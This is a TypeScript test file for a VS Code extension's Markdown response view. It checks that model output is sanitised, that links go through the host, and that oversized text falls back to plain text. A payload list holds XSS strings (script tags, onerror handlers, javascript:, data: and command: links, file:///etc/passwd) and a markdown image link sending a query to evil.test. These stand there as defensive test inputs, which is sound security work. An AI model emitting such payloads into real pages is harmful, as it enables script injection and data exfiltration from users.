import assert from "node:assert/strict";
import { fitsMarkdown, looksLikeMarkdown } from "../../src/webview/response/markdown.ts";
import { useResponsePage } from "./harness/responsePage.ts";
import { type RunPart, sampleAppend, sampleRun, short } from "./harness/samples.ts";

const escape = "\u001b[31mred\u001b[0m";
const overridden = "\u202Egnp.exe\u202C";

/** What models have been made to say to get out of the page, and what must be left to read of it. */
const payloads: readonly (readonly [text: string, left: string])[] = [
  ["<script>window.pwned = 1</script>", "window.pwned"],
  ["<img src=x onerror='window.pwned = 1'>", "onerror"],
  ["a <svg onload='window.pwned = 1'><circle/></svg> b", "onload"],
  ["<math><mtext><style><img src=x onerror=window.pwned=1></style></mtext></math>", "mtext"],
  ["<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>", "srcdoc"],
  ["<style>* { display: none }</style>", "display"],
  ["<p style='position: fixed'>over all</p>", "over all"],
  ["<form action='https://a.test'><input name=q></form>", "action"],
  ["![secret](https://evil.test/?q=1)", "[image: secret]"],
  ['![x](https://evil.test/" onerror="window.pwned=1)', "onerror"],
  ["[a](javascript:window.pwned=1)", "a"],
  ["[a](JaVa&#x0A;Script:window.pwned=1)", "a"],
  ["[a](command:workbench.action.quit)", "a"],
  ["[a](data:text/html,<script>parent.pwned=1</script>)", "a"],
  ["[a](vscode://settings) [b](file:///etc/passwd) [c](//evil.test) [d](/x)", "b"],
  ["<javascript:window.pwned=1>", "javascript"],
  ["[ref]\n\n[ref]: javascript:window.pwned=1", "ref"],
  ['```"><script>window.pwned=1</script>\ncode\n```', "code"],
  ["<a href='https://evil.test' onclick='window.pwned=1' id=tab-output>x</a>", "onclick"],
  ["<form id=response><input name=attributes>", "attributes"],
  [`${escape} ${overridden}`, "red"],
  ["&lt;script&gt;window.pwned=1&lt;/script&gt; &#x3c;img src=x&#x3e;", "<script>"],
];

describe("Markdown in the response view", () => {
  const view = useResponsePage({ width: 1200, height: 500 });

  it("lets nothing out of the text, and loses nothing of it", async () => {
    const requests: string[] = [];
    view.page.on("request", (request) => {
      if (!request.url().includes("/codicons/")) requests.push(request.url());
    });
    for (const [at, [text, left]] of payloads.entries()) {
      await run({ runId: `run-${at}`, text: `**case ${at}**\n\n${text}` });
      await view.page.locator(".markdown strong", { hasText: `case ${at}` }).waitFor();
      const found = await view.page.locator(".markdown").evaluate((answer) => ({
        text: answer.textContent,
        tags: [...answer.querySelectorAll("*")].map((element) => element.localName),
        attributes: [...answer.querySelectorAll("*")].flatMap((element) =>
          [...element.attributes].map(({ name }) => name),
        ),
        hrefs: [...answer.querySelectorAll("a[href]")].map((link) => link.getAttribute("href")),
      }));
      assert.ok(found.text.includes(left), `${text} became ${found.text}`);
      const allowed = ["div", "p", "strong", "a", "code", "pre", "em"];
      assert.deepEqual(
        found.tags.filter((tag) => !allowed.includes(tag)),
        [],
        text,
      );
      assert.deepEqual(
        found.attributes.filter((name) => !["class", "href", "title", "tabindex"].includes(name)),
        [],
        text,
      );
      assert.ok(
        found.hrefs.every((href) => href?.startsWith("https://")),
        `${text}: ${found.hrefs.join(" ")}`,
      );
    }
    assert.equal(await view.page.evaluate(() => "pwned" in window), false);
    assert.deepEqual(requests, []);
  });

  it("asks the host to open a link, and goes nowhere itself", async () => {
    await run({
      text: "# See\n\n[docs](https://docs.aws.amazon.com/bedrock) [x](javascript:alert)",
      lists: {
        citations: [
          { title: "Source", url: "https://noaa.gov/tides", text: short("Tides are waves.") },
          { title: "Bad", url: "javascript:alert(1)" },
        ],
      },
    });
    const link = view.page.getByRole("link", { name: "docs" });
    assert.equal(await link.getAttribute("title"), "docs.aws.amazon.com");
    // VS Code listens on the document, and would open the link without our question.
    await view.page.evaluate(() =>
      document.addEventListener("click", () => Object.assign(window, { escaped: true })),
    );
    await link.click();
    assert.equal((await view.next("openLink")).href, "https://docs.aws.amazon.com/bedrock");
    await link.focus();
    await view.page.keyboard.press("Enter");
    await view.next("openLink");
    await view.page.getByRole("link", { name: "Source" }).click();
    assert.equal((await view.next("openLink")).href, "https://noaa.gov/tides");
    assert.equal(await view.page.evaluate(() => "escaped" in window), false);
    await view.page.getByText("javascript:alert(1)").click();
    assert.equal(await view.page.getByRole("link").count(), 2);
    assert.equal((await view.said()).filter(({ type }) => type === "openLink").length, 3);
  });

  it("is chosen where the text looks like it, and switched by a button that is remembered", async () => {
    await run({ text: "Just words.\nAnd more." });
    await view.page.locator(".answer.stream").waitFor();
    const markdown = view.page.getByRole("button", { name: "Markdown" });
    assert.equal(await markdown.getAttribute("aria-pressed"), "false");
    await run({ runId: "run-2", text: "# Title\n\n- one\n- two" });
    await view.page.getByRole("heading", { name: "Title" }).waitFor();
    await markdown.click();
    await view.page.locator(".answer.stream", { hasText: "# Title" }).waitFor();
    assert.equal(await view.page.getByRole("heading", { name: "Title" }).count(), 0);
    await run({ runId: "run-3", text: "# Other" });
    await view.page.locator(".answer.stream", { hasText: "# Other" }).waitFor();
  });

  it("grows while it streams: what has come is there at once, and laid out soon", async () => {
    await run({ status: "running", text: "# Title\n\nfirst paragraph\n\n", bytesReceived: 10 });
    const kept = await view.page.getByText("first paragraph").elementHandle();
    await view.say(sampleAppend({ text: "**bold** end" }));
    await view.page.locator(".markdown strong", { hasText: "bold" }).waitFor();
    assert.ok(await kept?.evaluate((element) => element.isConnected));
    await run({ text: "# Title\n\nfirst paragraph\n\n**bold** end." });
    await view.page.locator(".markdown p", { hasText: "bold end." }).waitFor();
    assert.equal(await view.page.locator(".markdown strong").count(), 1);
  });

  it("shows what would keep the page busy as plain text", async () => {
    const texts = [
      `**a** ${"_a".repeat(40_000)}`,
      `**a**\n${">".repeat(5000)} deep`,
      `**a**\n\n|${"a|".repeat(400)}\n|${"-|".repeat(400)}\n${"|a\n".repeat(5000)}`,
      "**a** ".repeat(30_000),
    ];
    for (const [at, text] of texts.entries()) {
      await run({ runId: `run-${at}`, text });
      const shown = view.page.locator(".answer:not([hidden])");
      await shown.locator("text=**a**").first().waitFor();
      assert.equal(await shown.locator("strong").count(), 0);
    }
  });

  async function run(part: RunPart): Promise<void> {
    await view.say({ type: "run", run: sampleRun(part) });
  }
});

describe("Text that looks like Markdown", () => {
  it("has its marks", () => {
    for (const text of [
      "# A",
      "x\n```js\n1\n```",
      "**b**",
      "`c`",
      "1. a\n2. b",
      "- a\n\n- b",
      "|a|b|\n|---|---|",
    ])
      assert.ok(looksLikeMarkdown(text), text);
    for (const text of ["Words.", '{"a": "**b**"}', "<answer>**b**</answer>", "2 * 3 * 4", "- one"])
      assert.ok(!looksLikeMarkdown(text), text);
  });

  it("is laid out up to a length, a depth and a width", () => {
    assert.ok(fitsMarkdown("word ".repeat(20_000)));
    assert.ok(!fitsMarkdown("word ".repeat(40_000)));
    assert.ok(fitsMarkdown(`${"> ".repeat(10)}a`));
    assert.ok(!fitsMarkdown(`a\n${"> ".repeat(100)}a`));
    assert.ok(!fitsMarkdown("a|".repeat(1000) + "\na".repeat(1000)));
  });
});
